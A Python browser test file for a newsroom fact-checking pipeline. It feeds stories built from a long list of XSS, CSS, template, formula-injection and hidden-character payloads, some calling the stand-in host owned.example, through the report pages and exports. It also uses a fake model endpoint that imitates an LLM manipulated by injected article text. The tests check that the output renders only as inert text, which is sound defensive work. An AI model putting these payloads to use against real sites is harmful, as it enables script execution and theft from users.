"""A story whose every text is an attack, through the whole command: read, shown and exported as text."""

import json
import re
import shutil
import unicodedata
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Dialog, Page, expect

from pipeline.report.text import visible
from tests.browser import DESKTOP
from tests.commands import run_command
from tests.fake_endpoint import Body, Reply, fake_endpoint, said, scored
from tests.newsroom import REVIEWER, Newsroom, export, review

pytestmark = pytest.mark.browser

# All of our own invention; window.owned is what they would set. They have no numbers: those would differ.
INJECTIONS = (
    "<script>window.owned=self</script>",
    "</script><script>window.owned=self</script>",
    "</ScRiPt ><sCrIpT>window.owned=self</sCrIpT>",
    "</script\t><script src=//owned.example/a.js></script>",
    "<!--<script>window.owned=self<!--</script>-->",
    "<img src=x onerror=window.owned=self>",
    "<img src='x' onerror='alert(name)'>",
    '"><img src=x onerror="window.owned=self">',
    "'><img src=x onerror='window.owned=self'>",
    "<img/src=`x`/onerror=window.owned=self>",
    "<img srcset='https://owned.example/b.png 2x'>",
    "<svg onload=window.owned=self>",
    "<svg><script>window.owned=self</script></svg>",
    "<svg><animate onbegin=window.owned=self attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.owned=self>#x'/></svg>",
    "<math><a xlink:href='javascript:window.owned=self'>sum</a></math>",
    "<style>*{display:none!important}</style>",
    "</style><style>body{background:url(https://owned.example/c.png)}</style>",
    "<link rel=stylesheet href=https://owned.example/d.css>",
    "<div style=\"background:url('https://owned.example/e.png')\">",
    "<p style='width:expression(window.owned=self)'>",
    "} body { display: none } @import 'https://owned.example/f.css'; {",
    "<iframe src=javascript:window.owned=self></iframe>",
    "<iframe srcdoc='<script>parent.owned=self</script>'></iframe>",
    "<object data=data:text/html,<script>opener.owned=self</script>></object>",
    "<embed src=https://owned.example/g.swf>",
    "<meta http-equiv=refresh content='0;url=https://owned.example/'>",
    "<base href=https://owned.example/>",
    "<form action=https://owned.example/><button autofocus onfocus=window.owned=self>go</button></form>",
    "<input autofocus onfocus=window.owned=self>",
    "<select autofocus onfocus=confirm(name)><option>one</select>",
    "<details open ontoggle=window.owned=self>",
    "<video><source onerror=window.owned=self></video>",
    "<audio src=https://owned.example/h.ogg autoplay onerror=prompt(name)>",
    "<body onload=window.owned=self>",
    "<marquee onstart=window.owned=self>round</marquee>",
    "<a href=javascript:window.owned=self>here</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5vd25lZDwvc2NyaXB0Pg=='>there</a>",
    "[here](javascript:window.owned=self) and ![there](https://owned.example/i.png)",
    "javascript:window.owned=self//",
    "</textarea><script>window.owned=self</script>",
    "</title><script>window.owned=self</script>",
    "</template><script>window.owned=self</script>",
    "</noscript></blockquote></article></main><script>window.owned=self</script>",
    "<![CDATA[<script>window.owned=self</script>]]>",
    "<?php window.owned=self ?> <!DOCTYPE x [<!ENTITY y 'z'>]> &y;",
    "--><script>window.owned=self</script><!--",
    "{{ 7*7 }} {% include '/etc/hosts' %} {# quiet #}",
    "${window.owned=self} #{window.owned=self} <%= window.owned=self %>",
    "&lt;script&gt;window.owned=self&lt;/script&gt; &#60;b&#62; &amp;amp;",
    "<script>window.owned=self//",
    "<b onmouseover=window.owned=self title='never closed",
    '<i title="never closed onclick=window.owned=self',
    '"}],"findings":[{"id":"x"}]} //',
    "';window.owned=self;//\\';window.owned=self;//",
    "\\u003cscript\\u003ewindow.owned=self\\u003c/script\\u003e",
    "\u202egnp.exe\u202c and \u2066hid\u200bden\u2069",
    "\u2028window.owned=self\u2029",
    "\U000e0073\U000e0061\U000e0079 \ufeff\u00ad\u2062",
    "\x1b[2J\x1b[31mred\x1b]0;owned\x07\x1b[0m",
    "\x9b31m\x90owned\x9c\x85",
    "\x08\x08\x08\x7fback",
    '=HYPERLINK("https://owned.example/"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＜script＞window.owned=self＜/script＞",
    "\u212a\u017fcript<\u017fcript>window.owned=self</\u017fcript>",
)
THINGS = (
    "windows lanterns barrels goats bicycles ladders pianos mattresses tractors beehives anchors kettles "
    "bells carpets doors engines fences gates hats icons jars kites looms mirrors nets ovens ploughs quilts "
    "rafts saddles tents umbrellas vans wagons yachts zithers apples bottles candles drums eggs flags geese "
    "hammers irons jugs knives lamps medals needles oars pigs radios sheep trunks violins wheels axes boots "
    "coins desks easels forks globes harps inks"
).split()
STORIES = ("flood one", "<img src=x onerror=window.owned=self>{{ 7*7 }}")
NOTE = (
    "</script></textarea><script>window.owned=self</script><img src=x onerror=alert(name)> {{ 7*7 }} "
    "\u202eknil\u202c <!--"
)
FOREIGN = (  # no element of ours is one of these
    "img, svg, math, iframe, object, embed, base, form, video, audio, marquee, link[rel=stylesheet], "
    "body style, main script, [style], [onclick], [onerror], [onload], [onfocus], [ontoggle]"
)
_NUMBERED = re.compile(r"^(\d+): (.*)$", re.MULTILINE)


def obey(body: Body) -> Reply:
    """Answer as a model would that the articles have talked round: with their text wherever one fits."""
    asked = body["messages"][-1]["content"]
    if body.get("logprobs"):
        return scored({"S": -0.1, "C": -5.0, "N": -2.5})
    answer: dict[str, object]
    if ">> " in asked:
        sides = re.findall(">> (.*?) <<", asked)
        is_one = any(all(f" {thing} " in side for side in sides) for thing in THINGS)
        hostile = next((text for text in INJECTIONS if text in sides[0]), "</script>")
        relation = "contradiction" if is_one else "compatible"
        answer = {"reason": hostile, "relation": relation, "kind": "quantity"}
    else:
        answer = {number: [text] for number, text in _NUMBERED.findall(asked)}
    return said(json.dumps(answer))


def quoted(text: str) -> str:
    """Return a TOML string; TOML takes no control character as it is, and no surrogate."""
    bare = text.replace("\\", "\\\\").replace('"', '\\"')
    return '"' + "".join(f"\\u{ord(c):04x}" if unicodedata.category(c) == "Cc" else c for c in bare) + '"'


def hostile_stories(folder: Path) -> list[str]:
    """Write two stories of two articles each that differ in one number a sentence; return their sentences."""
    sentences = []
    half = -(-len(INJECTIONS) // 2)
    for place, name in enumerate(STORIES):
        own = INJECTIONS[place * half : (place + 1) * half]
        story = folder / name
        story.mkdir(parents=True)
        sidecar = []
        for number in (0, 1):
            lines = [_sentence(i + place * half, text, number) for i, text in enumerate(own)]
            lines.append(f"The dam above {own[0]} held all night.")
            sentences += lines
            file = f"{own[number].replace('/', '∕')[:60]} {number}.txt"
            (story / file).write_text("\n\n".join(lines) + "\n", encoding="utf-8")
            outlet, title = " ".join(own[number::4]), " ".join(own[number + 2 :: 4])
            sidecar.append(f"[articles.{quoted(file)}]\noutlet = {quoted(outlet)}\ntitle = {quoted(title)}")
        (story / "story.toml").write_text("\n".join(sidecar), encoding="utf-8")
    return sentences


def _sentence(place: int, hostile: str, number: int) -> str:
    return f"Clerk {hostile} said {20 + 3 * place + number} {THINGS[place]} were lost."


class Watched:
    """A page with all that it asked for, complained of or opened."""

    def __init__(self, context: BrowserContext, address: str) -> None:
        self.requests: list[str] = []
        self.trouble: list[str] = []
        context.on("request", lambda request: self.requests.append(request.url))
        context.on("page", self._watch)
        self.page = context.new_page()
        self.page.goto(address)

    def _watch(self, page: Page) -> None:
        page.on("dialog", self._refuse)
        page.on("console", lambda message: self.trouble.append(message.text))
        page.on("pageerror", lambda error: self.trouble.append(str(error)))
        page.on("popup", lambda popup: self.trouble.append(popup.url))

    def _refuse(self, dialog: Dialog) -> None:
        self.trouble.append(dialog.message)
        dialog.dismiss()

    def unfold(self) -> None:
        self.page.evaluate("document.querySelectorAll('details').forEach(fold => fold.open = true)")

    def visit(self) -> int:
        """Go to each finding in turn, leave the note on the last, and return how many there are."""
        number = self.page.locator(".finding").count()
        for place in range(number):
            self.page.keyboard.press("j")
            expect(self.page.locator(".finding").nth(place)).to_be_focused()
        self.page.keyboard.press("n")
        self.page.locator("#note-text").fill(NOTE)
        self.page.keyboard.press("Control+Enter")
        expect(self.page.locator("#told-text")).to_contain_text("Noted")
        return number

    def accept(self) -> None:
        """Accept every finding: after each the next open one is in focus."""
        number = self.page.locator(".finding").count()
        for place in range(number):
            self.page.keyboard.press("a")
            expect(self.page.locator("#desk-progress")).to_contain_text(f"{place + 1} of {number} decided")

    def is_well(self, *addresses: str) -> None:
        """Fail where anything ran, was fetched from elsewhere, or was taken for markup."""
        assert self.page.evaluate("typeof window.owned") == "undefined"
        assert self.trouble == []
        assert {url for url in self.requests if not url.startswith(addresses)} == set()
        assert self.page.locator(FOREIGN).count() == 0
        links = self.page.locator("a:not(.up a)").evaluate_all("all => all.map((link) => link.href)")
        assert {link for link in links if not link.startswith(addresses)} == set()
        up = self.page.locator(".up a").evaluate_all("all => all.map((link) => link.getAttribute('href'))")
        assert up in ([], ["../index.html"], ["../../"])  # ours, and the same whatever a story is called

    def text(self) -> str:
        return " ".join((self.page.locator("main").text_content() or "").split())


@dataclass(frozen=True)
class Hostile:
    """The hostile stories after a check, with what that printed."""

    out: Path
    printed: str
    sentences: Sequence[str]

    @property
    def reports(self) -> Sequence[Path]:
        return sorted(self.out.glob("*/report.html"))


@pytest.fixture(scope="module")
def checked(tmp_path_factory: pytest.TempPathFactory) -> Hostile:
    room = Newsroom(tmp_path_factory.mktemp("hostile"), {})
    sentences = hostile_stories(room.story)
    with fake_endpoint(obey) as server, pytest.MonkeyPatch.context() as patch:
        patch.setenv("OPENAI_BASE_URL", server.base_url)
        patch.setenv("OPENAI_API_KEY", "any")
        return Hostile(room.out, room.check(), sentences)


def hidden(text: str) -> set[str]:
    """Return the control and format characters and odd line ends in a text."""
    return {char for char in text if unicodedata.category(char) in ("Cc", "Cf", "Zl", "Zp")}


def test_hostile_reports_opened_from_files_are_nothing_but_text(checked: Hostile, browser: Browser) -> None:
    assert len(set(INJECTIONS)) >= 50
    assert hidden(checked.printed) == {"\n"}
    assert len(checked.reports) == len(STORIES)
    findings, text = 0, ""
    for path in checked.reports:
        with browser.new_context(viewport=DESKTOP) as context:
            seen = Watched(context, path.as_uri())
            seen.unfold()
            findings += seen.visit()
            seen.is_well(path.as_uri())
            text += seen.text()
    assert findings >= 50
    # What ends a line ends a paragraph, too; the margin comes between the two.
    lines = [line for words in checked.sentences for line in re.split("[\u2028\u2029\x85]", words)]
    assert [line for line in lines if " ".join(visible(line).split()) not in text] == []


def test_the_index_of_hostile_stories_is_nothing_but_text(checked: Hostile, browser: Browser) -> None:
    with browser.new_context(viewport=DESKTOP) as context:
        seen = Watched(context, (checked.out / "index.html").as_uri())
        seen.unfold()
        seen.page.fill("#filter-text", "script")
        expect(seen.page.locator("#filter-status")).not_to_be_empty()
        seen.is_well(checked.out.as_uri())
        assert "<script>" in seen.text()


def test_hostile_stories_are_reviewed_and_published_as_text(
    checked: Hostile, browser: Browser, tmp_path: Path
) -> None:
    out = shutil.copytree(checked.out, tmp_path / "out")
    with review(out) as link, browser.new_context(viewport=DESKTOP) as context:
        origin = link.partition("?")[0]
        seen = Watched(context, link)
        seen.is_well(origin)
        for address in seen.page.locator("#stories tbody th a").evaluate_all("all => all.map((a) => a.href)"):
            seen.page.goto(address)
            seen.unfold()
            seen.visit()
            seen.accept()
            seen.is_well(origin)
            seen.page.reload()
            expect(seen.page.locator(".finding .decided .note:visible").first).to_contain_text("</script>")
            seen.is_well(origin)
    assert run_command("report", out).code == 0
    for path in Hostile(out, "", ()).reports:
        with browser.new_context(viewport=DESKTOP) as context:
            seen = Watched(context, path.as_uri())
            expect(seen.page.locator("#desk-progress")).to_contain_text("decided")
            assert seen.page.locator(".finding[data-state=accepted]").count() >= 25
            seen.is_well(path.as_uri())
    for form, ends in (("md", "\n"), ("csv", "\r\n"), ("json", "\n"), ("jsonl", "\n")):
        text = export(out, "--format", form).out.removeprefix("\ufeff")
        assert hidden(text) == set(ends), form
        assert text.count("windows") >= 2
    reviews = export(out, "--format", "claimreview", *REVIEWER).out
    assert hidden(reviews) == {"\n"}
    assert len(json.loads(reviews)["@graph"]) >= 100
    assert "knil" not in reviews  # a note is never published
